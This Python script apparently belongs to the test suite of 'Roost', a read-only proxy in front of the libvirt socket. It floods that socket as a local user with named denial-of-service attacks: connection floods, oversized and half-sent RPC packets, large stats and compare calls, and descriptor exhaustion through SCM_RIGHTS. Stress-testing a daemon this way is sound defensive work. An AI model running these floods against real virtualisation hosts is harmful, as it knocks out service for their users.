"""What a local user may try on the read-only socket. It runs by itself, as that user, until it is ended:

    attacks.py SOCKET ATTACK [CONNECTIONS] [DOMAIN_UUID DOMAIN_NAME]

It imports nothing of the tests, so that it can be handed to Python as text where its user can't read the file.
"""

import array
import os
import selectors
import socket
import struct
import sys
import time

REMOTE, ROOST = 0x20008086, 0x726F6F73
OPEN, CAPABILITIES, STATE, COMPARE, REGISTER, STATS, IO_THREADS = 1, 7, 212, 158, 316, 344, 351
# Roost's own.
EVENTS_SINCE, WAIT_FOR_EVENT = 3, 4


def text(value):
    data = value.encode()
    return struct.pack(">I", len(data)) + data + bytes(-len(data) % 4)


def packet(procedure, payload=b"", kind=0, program=REMOTE):
    return struct.pack(">IIIiIII", 28 + len(payload), program, 1, procedure, kind, 7, 0) + payload


def opening(uri):
    return packet(OPEN, struct.pack(">I", 1) + text(uri) + struct.pack(">I", 1))


class Client:
    """A connection that writes the same again and again, and reads its replies or doesn't."""

    def __init__(self, path, first, again, reads):
        self.socket = socket.socket(socket.AF_UNIX)
        self.socket.connect(path)
        self.socket.setblocking(False)
        self.again, self.reads = memoryview(again), reads
        self.left = memoryview(first)

    def write(self):
        while self.left:
            self.left = self.left[self.socket.send(self.left):]
            if not self.left:
                self.left = self.again

    def turn(self, events):
        """Goes on; false when the connection has ended."""
        try:
            if events & selectors.EVENT_READ and not self.socket.recv(1 << 18):
                return False
            if events & selectors.EVENT_WRITE:
                self.write()
        except BlockingIOError:
            pass
        except OSError:
            return False
        return True

    @property
    def interest(self):
        return (selectors.EVENT_READ if self.reads else 0) | (selectors.EVENT_WRITE if self.left else 0)


def flood(path, connections, first, again, reads=True):
    """Keeps so many connections busy; one that ends is followed by another."""
    waiting, clients = selectors.DefaultSelector(), 0
    while True:
        while clients < connections:
            try:
                client = Client(path, first, again, reads)
            except OSError:
                break
            clients += 1
            # One that reads nothing and has nothing to write is watched for its end.
            waiting.register(client.socket, client.interest or selectors.EVENT_READ, client)
        for key, events in waiting.select(timeout=0.2):
            client = key.data
            if not client.turn(events):
                waiting.unregister(client.socket)
                client.socket.close()
                clients -= 1
            elif client.interest and client.interest != key.events:
                waiting.modify(client.socket, client.interest, client)
        if clients < connections:
            # Refused ones come back, though not as fast as this machine can.
            time.sleep(0.001)


def domain(uuid, name):
    return text(name) + bytes.fromhex(uuid.replace("-", "")) + struct.pack(">i", -1)


def features(count):
    return "<cpu><model>qemu64</model>" + "".join(f"<feature name='f{i}'/>" for i in range(count)) + "</cpu>"


def with_files(path, calls):
    """Calls with 32 descriptors each, as long as they are taken."""
    null = os.open("/dev/null", os.O_RDONLY)
    header = packet(IO_THREADS, struct.pack(">I", 32) + calls, kind=4)
    while True:
        try:
            with socket.socket(socket.AF_UNIX) as s:
                s.connect(path)
                s.sendall(opening("qemu:///system"))
                s.recv(1000)
                while True:
                    s.sendall(header)
                    for _ in range(32):
                        s.sendmsg([b"\0"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [null]))])
        except OSError:
            time.sleep(0.001)


def main(path, attack, connections="40", uuid="00" * 16, name="none"):
    count = int(connections)
    system = opening("qemu:///system")
    guest = domain(uuid, name)
    if attack == "capabilities":
        flood(path, count, system, packet(CAPABILITIES) * 2000, reads=False)
    elif attack == "capabilities-read":
        flood(path, count, system, packet(CAPABILITIES) * 2000)
    elif attack == "states":
        flood(path, count, system, packet(STATE, guest + bytes(4)) * 1000)
    elif attack == "idle":
        flood(path, count, system, b"", reads=False)
    elif attack == "unopened":
        flood(path, count, b"", b"", reads=False)
    elif attack == "half":
        flood(path, count, system + packet(COMPARE, bytes(2_000_000))[:-1], b"", reads=False)
    elif attack == "compare":
        flood(path, count, system, packet(COMPARE, text(features(60_000)) + bytes(4)))
    elif attack == "stats":
        flood(path, count, system, packet(STATS, struct.pack(">I", 16384) + guest * 16384 + bytes(8)))
    elif attack == "hung":
        flood(path, count, system, packet(IO_THREADS, guest + bytes(4)) * 1000, reads=False)
    elif attack == "files":
        with_files(path, guest + bytes(4))
    elif attack == "log":
        flood(path, count, packet(CAPABILITIES, kind=1), b"", reads=True)
    elif attack == "events":
        flood(path, count, system, packet(REGISTER, bytes(8)) * 1000)
    elif attack == "journal":
        flood(path, count, system, packet(EVENTS_SINCE, bytes(8), program=ROOST) * 1000)
    elif attack == "waiting":
        flood(path, count, system, packet(WAIT_FOR_EVENT, struct.pack(">Q", 1 << 60), program=ROOST) * 1000, reads=False)
    elif attack == "paths":
        flood(path, count, opening("test:///dev/zero"), opening("test:///dev/zero") * 100)
    else:
        raise SystemExit(f"no attack is called {attack}")


if __name__ == "__main__":
    main(*sys.argv[1:])
